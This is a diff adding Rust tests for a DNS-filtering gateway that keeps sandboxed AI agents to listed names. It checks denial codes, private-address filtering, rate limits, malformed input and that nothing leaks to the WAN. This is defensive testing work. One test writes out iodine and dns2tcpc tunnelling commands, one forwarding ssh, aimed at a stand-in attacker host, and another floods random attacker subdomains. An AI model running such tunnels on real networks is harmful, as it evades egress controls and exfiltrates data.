@@ -1,0 +1,448 @@
+//! The agents' resolver: whatever they ask, and whomever, the gateway answers, and no name that
+//! policy does not list is on the wire to the internet.
+
+pub(crate) mod client;
+
+use std::{
+    io::{Read as _, Write as _},
+    net::{IpAddr, SocketAddr, UdpSocket},
+    process::{Command, Stdio},
+    time::{Duration, Instant},
+};
+
+use hickory_proto::{
+    op::{MessageType, ResponseCode},
+    rr::{RecordType, rdata::opt::EdnsOption},
+};
+use lab::{
+    client::{agent, succeed},
+    dns::Answer,
+    gateway,
+    net::{AGENT, AGENT2, ATTACKER, CDN, GATEWAY, GATEWAY_V4, INTERNET, OPENAI, OTHER, PYPI},
+    sandboxed, wait,
+};
+
+use self::client::{
+    addresses, anywhere, ask, ask_tcp, ask_udp, code, framed, query, rand, read, resolvers, socket,
+    unframed,
+};
+use crate::world::{TICKET, World, get};
+
+/// The usual policy, with so many queries a second for each agent.
+fn config(rate: u32) -> String {
+    format!("{}\n[limits]\ndns_rate = {rate}\n", gateway::usual_config())
+}
+
+#[test]
+fn listed_names_resolve_whatever_resolver_an_agent_asks() {
+    sandboxed(|| {
+        let _world = World::with(&config(10_000));
+        for server in resolvers() {
+            for ask in [ask_udp, ask_tcp] {
+                for (kind, address) in [
+                    (RecordType::A, IpAddr::from(OPENAI.v4())),
+                    (RecordType::AAAA, IpAddr::from(OPENAI.v6())),
+                ] {
+                    let query = query("aPi.OpenAI.example.", kind);
+                    let answer = ask(AGENT, server, &query)
+                        .unwrap_or_else(|error| panic!("{server} {kind}: {error}"));
+                    assert_eq!(addresses(&answer), [address], "{server}");
+                    assert_eq!(answer.queries, query.queries);
+                    assert_eq!(answer.queries[0].name().to_ascii(), "aPi.OpenAI.example.");
+                    assert_eq!(answer.answers[0].ttl, 1, "the lab's are 0");
+                }
+            }
+        }
+        assert_eq!(addresses(&ask(anywhere(), CDN.name, RecordType::A)), [IpAddr::from(CDN.v4())]);
+        let https = ask(anywhere(), PYPI.name, RecordType::HTTPS);
+        assert_eq!((code(&https), https.answers.len()), (ResponseCode::NoError, 0));
+    });
+}
+
+#[test]
+fn a_group_resolves_the_names_of_its_own_rules_only() {
+    sandboxed(|| {
+        let world = World::usual();
+        let message = query(PYPI.name, RecordType::A);
+        let answer = ask_udp(AGENT2, anywhere(), &message).expect("an answer");
+        assert_eq!(code(&answer), ResponseCode::NXDomain);
+        assert!(!world.dns.was_asked(PYPI.name));
+        let message = query(OPENAI.name, RecordType::A);
+        let answer = ask_udp(AGENT2, anywhere(), &message).expect("an answer");
+        assert_eq!(addresses(&answer), [IpAddr::from(OPENAI.v4())]);
+        let record = world.gateway.audit.wait_reason("dns_denied");
+        assert_eq!(record["record"], "dns");
+        assert_eq!(record["group"], "operations");
+        assert_eq!(record["name"], "pypi.example.");
+        assert_eq!(record["type"], "A");
+        assert_eq!(record["server"], anywhere().ip().to_string());
+    });
+}
+
+#[test]
+fn a_thousand_names_of_the_attackers_leave_no_packet_on_the_wan() {
+    sandboxed(|| {
+        let world = World::with(&config(100_000));
+        let wan = world.lab.capture(INTERNET);
+        let kinds = [
+            RecordType::A,
+            RecordType::AAAA,
+            RecordType::TXT,
+            RecordType::NULL,
+            RecordType::CNAME,
+            RecordType::MX,
+            RecordType::SRV,
+            RecordType::HTTPS,
+            RecordType::ANY,
+            RecordType::AXFR,
+        ];
+        let servers = resolvers();
+        for number in 0..1_000 {
+            let label = format!("{:04x}{number:04x}", rand());
+            let zone = [ATTACKER.name, "attacker.pypi.example", "pypi.example.attacker.example"];
+            let name = format!("{label}.{}", zone[number % zone.len()]);
+            let kind = kinds[number % kinds.len()];
+            let server = servers[number % servers.len()];
+            let asked = if number % 20 == 0 { ask_tcp } else { ask_udp };
+            let answer = asked(AGENT, server, &query(&name, kind))
+                .unwrap_or_else(|error| panic!("{server} {name} {kind}: {error}"));
+            let expected = match kind {
+                RecordType::A | RecordType::AAAA | RecordType::HTTPS => ResponseCode::NXDomain,
+                _ => ResponseCode::Refused,
+            };
+            assert_eq!(code(&answer), expected, "{name} {kind}");
+            let info = answer.edns.as_ref().and_then(|edns| edns.option(15.into()));
+            let Some(EdnsOption::Unknown(_, info)) = info else { panic!("no extended error") };
+            assert_eq!(
+                info[..2],
+                if expected == ResponseCode::NXDomain { [0, 15] } else { [0, 21] }
+            );
+        }
+        assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
+        assert!(!wan.holds("attacker"), "the attacker's name is on the WAN");
+        // The capture sees what there is to see.
+        ask(anywhere(), OPENAI.name, RecordType::A);
+        assert!(wan.holds("openai"));
+        assert_eq!(world.dns.asked().len(), 2, "A and AAAA: {:?}", world.dns.asked());
+    });
+}
+
+#[test]
+fn tunnels_over_dns_find_nothing_to_ride_on() {
+    sandboxed(|| {
+        let world = World::with(&config(10_000));
+        let wan = world.lab.capture(INTERNET);
+        let server = ATTACKER.v4().to_string();
+        let lines = [
+            format!("iodine -f -r -P secret {server} t.attacker.example"),
+            format!("iodine -f -r -P secret -T NULL -O raw {server} t.attacker.example"),
+            "iodine -f -r -P secret -T TXT 2001:db8:f::53 t.attacker.example".to_owned(),
+            format!("dns2tcpc -c -z t.attacker.example -r ssh -l 2222 {server}"),
+            format!("dns2tcpc -c -k key -z t.attacker.example {server}"),
+        ];
+        let mut running = Vec::new();
+        for line in lines {
+            let program = line.split(' ').next().expect("a program");
+            if !installed(program) {
+                println!("skipped: {program} is missing; tests/prerequisites installs it");
+                continue;
+            }
+            let mut command = AGENT.command("sh");
+            command.args(["-c", &format!("exec {line}")]);
+            running.push((line, command.stdout(Stdio::null()).stderr(Stdio::null()).spawn()));
+        }
+        std::thread::sleep(Duration::from_secs(6));
+        for (line, child) in running {
+            let mut child = child.unwrap_or_else(|error| panic!("{line}: {error}"));
+            // It may have given up by itself.
+            let _ = child.kill();
+            let _ = child.wait();
+        }
+        assert!(world.dns.asked().is_empty(), "{:?}", world.dns.asked());
+        assert!(!wan.holds("attacker"), "the attacker's name is on the WAN");
+        // They did try: of the resolver that each was given.
+        for (program, server) in [("dns2tcpc", server.as_str()), ("iodine", "2001:db8:f::53")] {
+            if installed(program) {
+                world.gateway.audit.wait_for(|record| {
+                    let name = record["name"].as_str().unwrap_or_default();
+                    record["server"] == server && name.contains("attacker.example")
+                });
+            }
+        }
+    });
+}
+
+fn installed(program: &str) -> bool {
+    let line = format!("PATH=$PATH:/usr/sbin:/sbin command -v {program}");
+    Command::new("sh")
+        .args(["-c", &line])
+        .stdout(Stdio::null())
+        .status()
+        .is_ok_and(|it| it.success())
+}
+
+#[test]
+fn private_answers_are_withheld() {
+    sandboxed(|| {
+        let world = World::with(&config(10_000));
+        let inside = [
+            "127.0.0.1",
+            "0.0.0.0",
+            "10.9.9.9",
+            "192.168.9.9",
+            "100.64.0.9",
+            "169.254.169.254",
+            "224.0.0.1",
+            "192.0.2.1",
+            "203.0.113.2",
+            "::",
+            "::1",
+            "::ffff:127.0.0.1",
+            "64:ff9b::a9fe:a9fe",
+            "2002:7f00:1::",
+            "fd00::9",
+            "fe80::1",
+            "2001:db8:a::1",
+            "2001:db8:f::2",
+        ];
+        for text in inside {
+            let address: IpAddr = text.parse().expect("an address");
+            let kind = if address.is_ipv4() { RecordType::A } else { RecordType::AAAA };
+            world.dns.set(PYPI.name, &[address]);
+            let answer = ask(anywhere(), PYPI.name, kind);
+            assert_eq!(
+                (code(&answer), addresses(&answer)),
+                (ResponseCode::NoError, vec![]),
+                "{text}"
+            );
+            world.dns.set(PYPI.name, &[address, PYPI.v4().into(), PYPI.v6().into()]);
+            let answer = ask(anywhere(), PYPI.name, kind);
+            assert_eq!(addresses(&answer).len(), 1, "{text}: {:?}", addresses(&answer));
+            assert!(!addresses(&answer).contains(&address), "{text}");
+        }
+        let record = world.gateway.audit.wait_reason("private_address");
+        assert_eq!(record["record"], "dns");
+    });
+}
+
+#[test]
+fn what_does_not_resolve_is_told_in_time() {
+    sandboxed(|| {
+        let world = World::usual();
+        for (answer, expected) in [
+            (Answer::Addresses(Vec::new()), ResponseCode::NoError),
+            (Answer::Fails, ResponseCode::ServFail),
+            (Answer::Silent, ResponseCode::ServFail),
+        ] {
+            world.dns.script(PYPI.name, answer.clone());
+            let begun = Instant::now();
+            let told = ask(anywhere(), PYPI.name, RecordType::A);
+            assert_eq!((code(&told), told.answers.len()), (expected, 0), "{answer:?}");
+            assert!(begun.elapsed() < Duration::from_secs(5), "{answer:?}");
+        }
+        let unknown = ask(anywhere(), "unknown.cdn.example", RecordType::A);
+        assert_eq!(code(&unknown), ResponseCode::NXDomain);
+    });
+}
+
+#[test]
+fn one_question_upstream_serves_the_agents_and_the_gateway() {
+    sandboxed(|| {
+        let world = World::usual();
+        world.dns.set_ttl(60);
+        for _ in 0..20 {
+            let answer = ask(anywhere(), OPENAI.name, RecordType::A);
+            assert!((50..=60).contains(&answer.answers[0].ttl), "{}", answer.answers[0].ttl);
+            ask(anywhere(), OPENAI.name, RecordType::AAAA);
+        }
+        assert_eq!(world.ask(&get(&[TICKET])).status, 200);
+        assert_eq!(world.dns.asked().len(), 2, "A and AAAA: {:?}", world.dns.asked());
+    });
+}
+
+#[test]
+fn malformed_messages_leave_the_resolver_serving() {
+    sandboxed(|| {
+        let mut world = World::with(&config(100_000));
+        let good = query(OPENAI.name, RecordType::A).to_vec().expect("a message");
+        let sink = socket(AGENT, anywhere());
+        for length in 0..good.len() {
+            sink.send(&good[..length]).expect("sent");
+            for value in [0, 0xc0, 0xff] {
+                let mut changed = good.clone();
+                changed[length] = value;
+                sink.send(&changed).expect("sent");
+            }
+        }
+        for length in 0..1_400 {
+            let random: Vec<u8> = (0..length).map(|_| rand() as u8).collect();
+            if length % 7 == 0 {
+                sink.send(&random).expect("sent");
+            }
+        }
+        for length in [0, 1, 11, 12, 13, good.len() - 1] {
+            let mut stream = AGENT.connect(anywhere()).expect("TCP is answered");
+            let announced = u16::try_from(good.len()).expect("short").to_be_bytes();
+            stream.write_all(&announced).expect("sent");
+            stream.write_all(&good[..length]).expect("sent");
+            drop(stream);
+        }
+        let mut stream = AGENT.connect(anywhere()).expect("TCP is answered");
+        stream.write_all(&[0xff; 64 * 1024]).ok();
+        assert_eq!(stream.read(&mut [0; 16]).unwrap_or(0), 0, "too long");
+        for server in resolvers() {
+            for ask in [ask_udp, ask_tcp] {
+                let answer = ask(AGENT, server, &query(OPENAI.name, RecordType::A));
+                assert_eq!(addresses(&answer.expect("an answer")).len(), 1);
+            }
+        }
+        assert!(world.gateway.is_alive());
+        assert!(!world.gateway.stderr().contains("panicked"), "{}", world.gateway.stderr());
+    });
+}
+
+#[test]
+fn an_answer_is_never_answered() {
+    sandboxed(|| {
+        let _world = World::usual();
+        let socket = socket(AGENT, anywhere());
+        socket.set_read_timeout(Some(wait::QUIET)).expect("a timeout");
+        let mut answer = query(OPENAI.name, RecordType::A);
+        answer.metadata.message_type = MessageType::Response;
+        socket.send(&answer.to_vec().expect("a message")).expect("sent");
+        socket.recv(&mut [0; 512]).expect_err("a loop");
+    });
+}
+
+#[test]
+fn queries_in_a_stream_are_answered_in_their_order() {
+    sandboxed(|| {
+        let _world = World::usual();
+        let mut stream = AGENT.connect(anywhere()).expect("TCP is answered");
+        let names = [OPENAI.name, "no.attacker.example", CDN.name, PYPI.name];
+        let queries = names.map(|name| query(name, RecordType::A));
+        let all: Vec<u8> = queries.iter().flat_map(framed).collect();
+        for byte in &all[..20] {
+            stream.write_all(&[*byte]).expect("sent");
+        }
+        stream.write_all(&all[20..]).expect("sent");
+        for query in &queries {
+            let answer = read(query, &unframed(&mut stream).expect("an answer")).expect("DNS");
+            assert_eq!(answer.queries, query.queries);
+        }
+    });
+}
+
+#[test]
+fn an_agent_that_asks_too_much_is_slowed_down_alone() {
+    sandboxed(|| {
+        let world = World::with(&config(50));
+        let held: Vec<_> = (0..60).filter_map(|_| AGENT.connect(anywhere()).ok()).collect();
+        let message = query("a.attacker.example", RecordType::A).to_vec().expect("a message");
+        let floods: Vec<_> = resolvers().into_iter().map(|to| socket(AGENT, to)).collect();
+        let stop = std::sync::atomic::AtomicBool::new(false);
+        let (mut served, mut slowest) = (0, Duration::ZERO);
+        std::thread::scope(|scope| {
+            for flood in &floods[..2] {
+                scope.spawn(|| {
+                    while !stop.load(std::sync::atomic::Ordering::Relaxed) {
+                        // Its own queue may be full, which is the flood at its most.
+                        let _ = flood.send(&message);
+                    }
+                });
+            }
+            for number in 0..60 {
+                let begun = Instant::now();
+                let asked = if number % 10 == 0 { ask_tcp } else { ask_udp };
+                let answer = asked(AGENT2, anywhere(), &query(OPENAI.name, RecordType::A));
+                served += usize::from(answer.is_ok_and(|answer| !addresses(&answer).is_empty()));
+                slowest = slowest.max(begun.elapsed());
+                std::thread::sleep(Duration::from_millis(30));
+            }
+            stop.store(true, std::sync::atomic::Ordering::Relaxed);
+        });
+        assert_eq!(served, 60, "the other agent is served; slowest {slowest:?}");
+        assert!(slowest < Duration::from_secs(2), "{slowest:?}");
+        let record = world.gateway.audit.wait_reason("dns_rate");
+        assert_eq!(record["record"], "dns_summary");
+        assert_eq!(record["group"], "research");
+        assert!(record["limited"].as_u64() > Some(1_000), "{record}");
+        let of_their_own =
+            world.gateway.audit.records().iter().filter(|it| it["record"] == "dns").count();
+        assert!(of_their_own < 400, "{of_their_own} records");
+        drop(held);
+    });
+}
+
+#[test]
+fn curl_works_with_any_resolver_and_no_hosts_file() {
+    sandboxed(|| {
+        let world = World::usual();
+        world.lab.names(&[]);
+        for (server, family) in [("8.8.8.8", "-4"), ("192.0.2.1", "-6"), ("2001:db8:a::1", "-4")] {
+            world.lab.write("resolv.conf", format!("nameserver {server}\noptions timeout:3\n"));
+            let mut curl = agent(&world.lab, AGENT, "curl");
+            curl.args(["-sS", family, "--fail", "--max-time", "10", "-H", TICKET]);
+            succeed(curl.arg("https://api.openai.example/v1/models"));
+            let mut curl = agent(&world.lab, AGENT, "curl");
+            curl.args(["-sS", family, "--fail", "--max-time", "10"]);
+            succeed(curl.arg("https://pypi.example/"));
+        }
+        let python = "import socket; print(socket.getaddrinfo('files.cdn.example', 443))";
+        let printed = succeed(agent(&world.lab, AGENT, "python3").args(["-c", python]));
+        assert!(printed.contains(&CDN.v4().to_string()) && printed.contains(&CDN.v6().to_string()));
+        let python = "import socket\ntry: socket.getaddrinfo('attacker.example', 443)\n\
+                      except socket.gaierror as error: print(error.errno == socket.EAI_NONAME)";
+        let printed = succeed(agent(&world.lab, AGENT, "python3").args(["-c", python]));
+        assert_eq!(printed.trim(), "True", "at once, and for good");
+        assert!(!world.dns.was_asked(ATTACKER.name));
+    });
+}
+
+#[test]
+fn a_dead_daemon_answers_no_name_and_passes_no_query() {
+    sandboxed(|| {
+        let mut world = World::usual();
+        ask(anywhere(), OPENAI.name, RecordType::A);
+        let before = world.dns.asked().len();
+        let wan = world.lab.capture(INTERNET);
+        world.gateway.kill();
+        for server in resolvers() {
+            let begun = Instant::now();
+            let message = query("dead.attacker.example", RecordType::A);
+            ask_udp(AGENT, server, &message).expect_err("nobody is there");
+            ask_tcp(AGENT, server, &message).expect_err("nobody is there");
+            assert!(begun.elapsed() < Duration::from_secs(2), "{server} is not refused at once");
+        }
+        assert_eq!(world.dns.asked().len(), before);
+        assert!(!wan.holds("attacker"));
+    });
+}
+
+#[test]
+fn a_reload_changes_which_names_there_are() {
+    sandboxed(|| {
+        let world = World::usual();
+        assert_eq!(code(&ask(anywhere(), OTHER.name, RecordType::A)), ResponseCode::NXDomain);
+        let wider = gateway::usual_config().replace("\"pypi.example\"", "\"other.example\"");
+        gateway::install(&world.lab, &wider);
+        world.gateway.reload();
+        wait::expect("the new name resolves", || {
+            code(&ask(anywhere(), OTHER.name, RecordType::A)) == ResponseCode::NoError
+        });
+        assert_eq!(code(&ask(anywhere(), PYPI.name, RecordType::A)), ResponseCode::NXDomain);
+    });
+}
+
+#[test]
+fn no_other_program_is_reached_on_port_53() {
+    sandboxed(|| {
+        let _world = World::usual();
+        // A resolver of the gateway's own, on loopback, is not in the way and not in reach.
+        let own = GATEWAY.enter(|| UdpSocket::bind("127.0.0.1:53"));
+        drop(own);
+        AGENT.connect(SocketAddr::from((GATEWAY_V4, 5353))).expect_err("not DNS");
+        let answer = ask(SocketAddr::from((GATEWAY_V4, 53)), OPENAI.name, RecordType::A);
+        assert_eq!(addresses(&answer).len(), 1);
+    });
+}
